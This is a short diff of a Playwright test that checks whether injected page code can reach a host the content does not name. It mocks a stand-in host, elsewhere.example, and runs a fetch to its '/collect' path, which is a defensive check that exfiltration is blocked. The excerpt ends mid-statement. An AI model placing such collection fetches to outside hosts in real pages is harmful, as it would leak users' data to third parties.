@@ -39,6 +39,9 @@ test.describe('injected code', () => {
   })
 
   test('cannot reach a host that the content does not name', async ({ page }) => {
+    await page.route('https://elsewhere.example/**', (route) =>
+      route.fulfill({ headers: { 'access-control-allow-origin': '*' }, body: 'Collected' })
+    )
     await visit(page, '/')
     const reached = await page.evaluate(() =>
       fetch('https://elsewhere.example/collect').then(
